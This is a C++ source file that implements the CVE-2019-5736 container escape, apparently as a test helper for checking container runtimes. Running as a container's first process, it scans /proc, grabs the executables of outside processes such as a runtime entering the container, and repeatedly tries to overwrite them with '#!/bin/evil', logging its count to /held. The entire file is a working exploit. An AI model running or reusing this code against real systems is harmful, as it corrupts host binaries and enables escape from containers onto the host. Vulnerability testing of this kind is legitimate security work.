// What a hostile first process does to a runtime that enters its container (CVE-2019-5736): it opens the
// program of every other process, keeps it, and tries to write to it until nothing runs from it any more.
// Linked statically, for a root file system without libraries. Never ends; `/held` tells how many programs
// that are none of the image it got hold of.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

namespace {

constexpr int kMost = 200;
int held[kMost];
int count = 0;
struct stat ours[2];

bool isOfTheImage(int fd) {
    struct stat info {};
    if (::fstat(fd, &info) != 0)
        return true;
    for (const auto& one : ours) {
        if (one.st_dev == info.st_dev && one.st_ino == info.st_ino)
            return true;
    }
    return false;
}

void hold(const char* pid) {
    char path[64];
    ::snprintf(path, sizeof path, "/proc/%.10s/exe", pid);
    const int fd = ::open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    if (isOfTheImage(fd) || count == kMost) {
        ::close(fd);
        return;
    }
    held[count++] = fd;
    const int told = ::open("/held", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    ::dprintf(told, "%d", count);
    ::close(told);
}

void overwrite(int program) {
    char path[64];
    ::snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    const int fd = ::open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0 && ::write(fd, "#!/bin/evil\n", 12) > 0)
        ::close(fd);
}

} // namespace

int main() {
    ::stat("/proc/self/exe", &ours[0]);
    ::stat("/bin/busybox", &ours[1]);
    for (;;) {
        DIR* all = ::opendir("/proc");
        while (const dirent* one = ::readdir(all)) {
            if (one->d_name[0] >= '1' && one->d_name[0] <= '9')
                hold(one->d_name);
        }
        ::closedir(all);
        for (int i = 0; i < count; ++i)
            overwrite(held[i]);
    }
}
